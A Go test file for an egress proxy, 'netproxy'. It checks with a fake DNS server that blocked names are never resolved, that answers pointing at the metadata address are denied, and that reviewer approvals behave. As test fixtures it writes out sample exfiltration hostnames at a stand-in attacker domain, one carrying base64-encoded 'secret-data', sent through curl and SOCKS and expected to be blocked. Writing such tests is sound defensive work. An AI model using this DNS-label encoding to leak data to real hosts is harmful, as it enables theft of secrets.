package test

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"
)

// countingDNS is a real UDP DNS server on 127.0.0.1 that answers A/AAAA
// from a table, never answers the names in silent, NXDOMAINs the rest, and
// counts every query it receives by name (lowercase, no trailing dot).
type countingDNS struct {
	Addr   string
	conn   net.PacketConn
	answer map[string][]netip.Addr
	silent map[string]bool

	mu      sync.Mutex
	queries map[string]int
}

func startCountingDNS(t *testing.T, answers map[string][]string, silent ...string) *countingDNS {
	t.Helper()
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	s := &countingDNS{Addr: pc.LocalAddr().String(), conn: pc, answer: map[string][]netip.Addr{},
		silent: map[string]bool{}, queries: map[string]int{}}
	for n, as := range answers {
		for _, a := range as {
			s.answer[n] = append(s.answer[n], netip.MustParseAddr(a))
		}
	}
	for _, n := range silent {
		s.silent[n] = true
	}
	t.Cleanup(func() { pc.Close() })
	go s.serve()
	return s
}

func (s *countingDNS) serve() {
	buf := make([]byte, 1500)
	for {
		n, from, err := s.conn.ReadFrom(buf)
		if err != nil {
			return
		}
		var p dnsmessage.Parser
		h, err := p.Start(buf[:n])
		if err != nil {
			continue
		}
		q, err := p.Question()
		if err != nil {
			continue
		}
		name := strings.TrimSuffix(strings.ToLower(q.Name.String()), ".")
		s.mu.Lock()
		s.queries[name]++
		s.mu.Unlock()
		if s.silent[name] {
			continue
		}
		rh := dnsmessage.Header{ID: h.ID, Response: true, Authoritative: true, RecursionAvailable: true}
		as, ok := s.answer[name]
		if !ok {
			rh.RCode = dnsmessage.RCodeNameError
		}
		b := dnsmessage.NewBuilder(nil, rh)
		b.StartQuestions()
		b.Question(q)
		b.StartAnswers()
		for _, a := range as {
			rr := dnsmessage.ResourceHeader{Name: q.Name, Class: dnsmessage.ClassINET, TTL: 60}
			if a.Is4() && q.Type == dnsmessage.TypeA {
				b.AResource(rr, dnsmessage.AResource{A: a.As4()})
			}
			if a.Is6() && q.Type == dnsmessage.TypeAAAA {
				b.AAAAResource(rr, dnsmessage.AAAAResource{AAAA: a.As16()})
			}
		}
		msg, err := b.Finish()
		if err != nil {
			continue
		}
		s.conn.WriteTo(msg, from)
	}
}

// Queries returns how many queries name received (any suffix of it that
// the resolver might have tried counts too: every query whose name
// contains it).
func (s *countingDNS) Queries(name string) int {
	s.mu.Lock()
	defer s.mu.Unlock()
	n := 0
	for q, c := range s.queries {
		if strings.Contains(q, name) {
			n += c
		}
	}
	return n
}

// Total is every query received.
func (s *countingDNS) Total() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	n := 0
	for _, c := range s.queries {
		n += c
	}
	return n
}

// dnsPolicyConfig pins the resolver to srv and allow-lists allowed.test
// (answered 127.0.0.1, reachable through the 127.0.0.1/32 allow-list prefix
// ), meta.test (answered 169.254.169.254, a deny-list prefix) and
// slow.test (never answered).
func dnsPolicyConfig(srv *countingDNS, approvals bool) ProxyConfig {
	return ProxyConfig{
		Domains: [][2]string{
			{"allowed.test", "allow"}, {"meta.test", "allow"}, {"slow.test", "allow"}, {"private.test", "allow"},
			{"127.0.0.1/32", "allow"},
			{"169.254.0.0/16", "deny"}, {"denied.test", "deny"},
		},
		Approvals: approvals,
		Extra:     fmt.Sprintf("[dns]\ntimeout = \"1s\"\nservers = [%q]\n", srv.Addr),
	}
}

// dnsProxy starts netproxy with cfg; the [dns] table of cfg.Extra replaces
// the harness's own (timeout only).
func dnsProxy(t *testing.T, cfg ProxyConfig) *Proxy {
	t.Helper()
	p := WriteProxyConfig(t, cfg)
	raw, err := os.ReadFile(p.ConfigPath)
	if err != nil {
		t.Fatal(err)
	}
	text := strings.Replace(string(raw), "[dns]\ntimeout = \"2s\"\n", "", 1)
	if err := os.WriteFile(p.ConfigPath, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
	p.Start(t)
	return p
}

// TestBlockedNamesAreNeverResolved is issue 11 item 1: a request for a
// name no list allowed must not cause a single DNS query — through plain
// HTTP, CONNECT, SOCKS5 and `netproxy check` — while an allowed name is
// resolved through dns.servers.
func TestBlockedNamesAreNeverResolved(t *testing.T) {
	srv := startCountingDNS(t, map[string][]string{
		"allowed.test": {"127.0.0.1"}, "meta.test": {"169.254.169.254"}, "private.test": {"10.9.9.9"},
		// The attacker's server would answer anything; answer too, so a
		// lookup, if made, would succeed.
		"c2vjcmv0lwrhdge.exfil.attacker.test": {"93.184.216.34"},
	}, "slow.test")
	up := StartUpstream(t, false)
	p := dnsProxy(t, dnsPolicyConfig(srv, false))

	exfil := []string{"c2VjcmV0LWRhdGE.exfil.attacker.test", "http-leak.attacker.test", "connect-leak.attacker.test", "socks-leak.attacker.test", "check-leak.attacker.test"}

	// Plain HTTP.
	r := Curl(t, "-x", "http://"+p.HTTP, "-o", "/dev/null", "-w", "%{http_code}", "http://"+exfil[0]+"/")
	if r.Stdout != "403" {
		t.Fatalf("HTTP to an unlisted name: %q %s", r.Stdout, r.Stderr)
	}
	r = Curl(t, "-x", "http://"+p.HTTP, "-o", "/dev/null", "-w", "%{http_code}", "http://"+exfil[1]+"/x?secret=1")
	if r.Stdout != "403" {
		t.Fatalf("HTTP to an unlisted name: %q %s", r.Stdout, r.Stderr)
	}
	// CONNECT.
	r = Curl(t, "-x", "http://"+p.HTTP, "-o", "/dev/null", "-w", "%{http_connect}", "https://"+exfil[2]+"/")
	if r.Stdout != "403" {
		t.Fatalf("CONNECT to an unlisted name: %q %s", r.Stdout, r.Stderr)
	}
	// SOCKS5 with a domain-name address.
	if rep, _ := SocksConnect(t, p.SOCKS, nil, 0x01, exfil[3], 443); rep != 0x02 {
		t.Fatalf("SOCKS5 to an unlisted name: reply %d, want 2", rep)
	}
	// netproxy check.
	cmd := NetproxyCmd(t, p, "check", "--config", p.ConfigPath, "--json", exfil[4])
	out, err := cmd.Output()
	if cmd.ProcessState.ExitCode() != 10 {
		t.Fatalf("check of an unlisted name: exit %d (%v)\n%s", cmd.ProcessState.ExitCode(), err, out)
	}
	var res struct {
		Reason   string   `json:"reason"`
		Resolved []string `json:"resolved"`
	}
	if err := json.Unmarshal(out, &res); err != nil || res.Reason != "not_allowed" || len(res.Resolved) != 0 {
		t.Fatalf("check JSON: %v %s", err, out)
	}
	for _, n := range exfil {
		if q := srv.Queries(strings.ToLower(n)); q != 0 {
			t.Errorf("%s: blocked, yet the DNS server saw %d queries for it", n, q)
		}
	}
	if n := srv.Total(); n != 0 {
		t.Errorf("blocked requests caused %d DNS queries: %v", n, srv.queries)
	}

	// An allowed name is resolved through dns.servers and served.
	r = Curl(t, "-x", "http://"+p.HTTP, up.URL("allowed.test", "/hello"))
	if r.Exit != 0 || r.Stdout != Hello {
		t.Fatalf("allowed name: exit %d %q %s", r.Exit, r.Stdout, r.Stderr)
	}
	if srv.Queries("allowed.test") == 0 {
		t.Fatal("an allowed name must be resolved through dns.servers")
	}
	cmd = NetproxyCmd(t, p, "check", "--config", p.ConfigPath, "--json", "allowed.test")
	out, _ = cmd.Output()
	if cmd.ProcessState.ExitCode() != 0 || json.Unmarshal(out, &res) != nil || len(res.Resolved) != 1 || res.Resolved[0] != "127.0.0.1" {
		t.Fatalf("check allowed.test: exit %d %s", cmd.ProcessState.ExitCode(), out)
	}

	// Item 5: an allowed name whose answer lies in a deny-list prefix.
	r = Curl(t, "-x", "http://"+p.HTTP, up.URL("meta.test", "/"))
	if !strings.Contains(r.Stdout, `"reason":"denied"`) {
		t.Fatalf("name resolving into a deny-list prefix: %q %s", r.Stdout, r.Stderr)
	}
	// An allowed name resolving to a private address outside every allow
	// prefix stays local.
	r = Curl(t, "-x", "http://"+p.HTTP, up.URL("private.test", "/"))
	if !strings.Contains(r.Stdout, `"reason":"not_allowed_local"`) {
		t.Fatalf("name resolving private: %q %s", r.Stdout, r.Stderr)
	}

	// A server that never answers fails closed within dns.timeout (1s).
	start := time.Now()
	r = Curl(t, "-x", "http://"+p.HTTP, up.URL("slow.test", "/"))
	el := time.Since(start)
	if !strings.Contains(r.Stdout, `"reason":"not_allowed_local"`) {
		t.Fatalf("silent DNS server: %q %s", r.Stdout, r.Stderr)
	}
	if el > 3*time.Second {
		t.Fatalf("silent DNS server: blocked after %v; dns.timeout is 1s", el)
	}
	if srv.Queries("slow.test") == 0 {
		t.Fatal("slow.test was never asked")
	}
	if up.Hits() != 1 {
		t.Fatalf("upstream hits %d, want 1 (only allowed.test)", up.Hits())
	}
}

// TestReviewedNameResolvedOnlyAfterApproval: with approvals on, a name
// waiting for a reviewer is not looked up; the lookup happens once the
// reviewer allowed it, and a private answer then is final.
func TestReviewedNameResolvedOnlyAfterApproval(t *testing.T) {
	srv := startCountingDNS(t, map[string][]string{"review.test": {"10.1.2.3"}})
	p := dnsProxy(t, dnsPolicyConfig(srv, true))

	done := make(chan CurlResult, 1)
	go func() { done <- Curl(t, "-x", "http://"+p.HTTP, "http://review.test/") }()
	id := policyWaitPending(t, p, "review.test")
	if q := srv.Total(); q != 0 {
		t.Fatalf("a name waiting for review was looked up (%d queries)", q)
	}
	code, body := policyAdmin(t, p, "POST", "/api/approvals/"+id+"/decision", `{"decision":"allow_once"}`)
	if code != 200 {
		t.Fatalf("decide: %d %s", code, body)
	}
	r := <-done
	if !strings.Contains(r.Stdout, `"reason":"not_allowed_local"`) {
		t.Fatalf("approved name resolving private must be final not_allowed_local: %q %s", r.Stdout, r.Stderr)
	}
	if srv.Queries("review.test") == 0 {
		t.Fatal("an approved name must be resolved")
	}
}

// policyAdmin calls the admin API with the proxy's bearer token.
func policyAdmin(t *testing.T, p *Proxy, method, path, body string) (int, string) {
	t.Helper()
	req, _ := http.NewRequest(method, "http://"+p.Admin+path, strings.NewReader(body))
	req.Header.Set("Authorization", "Bearer "+p.Token)
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// policyWaitPending waits for a pending network approval for host and
// returns its id.
func policyWaitPending(t *testing.T, p *Proxy, host string) string {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for time.Now().Before(deadline) {
		_, body := policyAdmin(t, p, "GET", "/api/approvals?status=pending", "")
		var list struct {
			Approvals []struct {
				ID   string `json:"id"`
				Host string `json:"host"`
			} `json:"approvals"`
		}
		if json.Unmarshal([]byte(body), &list) == nil {
			for _, a := range list.Approvals {
				if a.Host == host {
					return a.ID
				}
			}
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Fatalf("no pending approval for %s", host)
	return ""
}

// TestDenyDuringReviewWins is SPEC 3.9's last sentence end to end: a
// request waits for a reviewer; meanwhile a reload denies its host; the
// reviewer's allow_once that follows must not let it through.
func TestDenyDuringReviewWins(t *testing.T) {
	up := StartUpstream(t, false)
	p := StartProxy(t, ProxyConfig{
		AllowLocal: true, Approvals: true,
		Domains: [][2]string{{"ok.test", "allow"}},
		Hosts:   map[string][]string{"late.test": {"127.0.0.1"}, "ok.test": {"127.0.0.1"}},
	})
	done := make(chan CurlResult, 1)
	go func() { done <- Curl(t, "-x", "http://"+p.HTTP, up.URL("late.test", "/hello")) }()
	id := policyWaitPending(t, p, "late.test")

	raw, err := os.ReadFile(p.ConfigPath)
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(p.ConfigPath, []byte(strings.Replace(string(raw), "\"ok.test\" = \"allow\"\n", "\"ok.test\" = \"allow\"\n\"late.test\" = \"deny\"\n", 1)), 0o644)
	if code, body := policyAdmin(t, p, "POST", "/api/reload", ""); code != 200 {
		t.Fatalf("reload: %d %s", code, body)
	}
	if code, body := policyAdmin(t, p, "POST", "/api/approvals/"+id+"/decision", `{"decision":"allow_once"}`); code != 200 {
		t.Fatalf("decide: %d %s", code, body)
	}
	r := <-done
	if !strings.Contains(r.Stdout, `"reason":"denied"`) || up.Hits() != 0 {
		t.Fatalf("a deny added during the review must win: %q %s (upstream hits %d)", r.Stdout, r.Stderr, up.Hits())
	}
}
